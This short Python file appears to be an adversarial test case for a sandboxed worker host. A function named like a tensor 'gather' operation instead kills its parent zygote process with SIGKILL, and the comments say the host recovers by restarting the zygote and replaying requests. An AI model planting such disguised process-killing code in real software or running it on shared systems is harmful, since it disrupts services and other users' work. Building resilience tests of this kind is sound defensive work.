# Attack: gather kills the process that forked it (the zygote), taking every other worker with it.
# Holds because: the host restarts the zygote and sends the others' requests once more.
import os
import signal


def gather(x, dim, index):
    os.kill(os.getppid(), signal.SIGKILL)
